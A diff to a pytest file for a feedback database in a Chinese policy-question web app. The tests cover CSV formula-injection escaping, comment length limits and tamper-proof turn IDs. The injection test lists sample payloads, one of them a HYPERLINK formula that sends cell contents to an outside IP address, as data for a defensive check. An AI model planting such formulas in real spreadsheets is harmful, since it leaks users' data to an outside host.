@@ -15,7 +15,7 @@ from pathlib import Path
 
 import pytest
 
-from web.feedback import SCHEMA_VERSION, FeedbackError, FeedbackStore
+from web.feedback import MAX_COMMENT_CHARS, SCHEMA_VERSION, FeedbackError, FeedbackStore
 
 ROOT = Path(__file__).resolve().parent.parent
 CITES = [{"id": "m22", "title": "措施22 · 完善产业工人住房保障", "text": "职工可按规定提取住房公积金用于支付房租。"}]
@@ -149,8 +149,9 @@ def test_locked_database_fails_fast_and_softly(tmp_path):
 
         from web.services import Feedback
 
-        assert Feedback(store).record({"q": "q3", "answer": "a", "citations": []}, "down") is None
-        assert Feedback(store).comment(1, "text") is False
+        feedback = Feedback(store, key=b"k" * 32)
+        assert feedback.record(feedback.issue({"q": "q3", "answer": "a", "citations": []}), "down") is None
+        assert feedback.comment(1, "text") is False
     finally:
         blocker.execute("ROLLBACK")
         blocker.close()
@@ -180,3 +181,56 @@ def test_app_answers_with_a_corrupt_feedback_database(tmp_path, index_dir, assis
     with running_app(env) as (url, _):
         result = Client(url, verbose=False).predict("尘肺病防治攻坚行动由哪个部门牵头？", api_name="/ask")
         assert "市卫生健康局" in result["answer"]
+
+
+def test_csv_export_neutralises_formulas(tmp_path):
+    """Spreadsheet formula injection: a cell starting with = + - @, tab or CR is exported with a
+    leading apostrophe, so the spreadsheet shows it as text; JSON lines keep it as stored."""
+    store = _store(tmp_path)
+    evil = ['=HYPERLINK("http://203.0.113.9/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+    for i, text in enumerate(evil):
+        store.add(text, "答", [], "down", comment=text, turn_id=f"t{i}")
+    store.add("普通问题 = 1?", "答", [], "up", comment="fine - ok", turn_id="plain")
+    out = io.StringIO()
+    store.export(out, "csv")
+    back = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    for row, text in zip(back, evil):
+        assert row["question"] == row["comment"] == "'" + text
+    assert (back[-1]["question"], back[-1]["comment"]) == ("普通问题 = 1?", "fine - ok")
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in back for v in r.values())
+    out = io.StringIO()
+    store.export(out, "jsonl")
+    assert [json.loads(line)["question"] for line in out.getvalue().splitlines()][:len(evil)] == evil
+
+
+def test_one_row_per_turn_and_comment_limit(tmp_path):
+    store = _store(tmp_path)
+    first = store.add("q", "a", [], "up", turn_id="t1.n.m")
+    assert store.add("q", "a", [], "down", turn_id="t1.n.m") == first  # the verdict changes
+    [row] = store.rows()
+    assert (row["verdict"], row["turn_id"]) == ("down", "t1.n.m")
+    store.set_comment(first, "好" * MAX_COMMENT_CHARS)
+    with pytest.raises(ValueError, match="comment too long"):
+        store.set_comment(first, "好" * (MAX_COMMENT_CHARS + 1))
+    assert store.rows()[0]["comment"] == "好" * MAX_COMMENT_CHARS
+
+
+def test_turn_ids_prove_what_the_server_answered(tmp_path):
+    from web.services import Feedback
+    from web.turns import NotIssued
+
+    store = _store(tmp_path)
+    feedback = Feedback(store)
+    turn = feedback.issue({"q": "住房公积金能交房租吗？", "answer": "可以。[1]", "citations": CITES, "found": True,
+                           "route": "policy", "lang": "zh", "time": "2026-11-28T10:00:00"})
+    assert Feedback(FeedbackStore(store.path)).ids.check(turn) == turn["turn_id"]  # the key is kept in the file
+    assert Feedback(_store(tmp_path / "other")).ids.check is not None
+    with pytest.raises(NotIssued):
+        Feedback(_store(tmp_path / "other")).ids.check(turn)  # another database, another key
+    for change in ({"answer": "可以，每月补贴 5000 元。[1]"}, {"q": "别的问题"}, {"found": False},
+                   {"citations": [{**CITES[0], "text": "改过的原文"}]}, {"turn_id": turn["turn_id"] + "x"},
+                   {"turn_id": None}, {"turn_id": "t1.a"}):
+        with pytest.raises(NotIssued):
+            feedback.record({**turn, **change}, "up")
+    assert feedback.record({**turn, "time": "changed", "feedback": "Like"}, "up")  # display fields are free
+    assert store.count() == 1
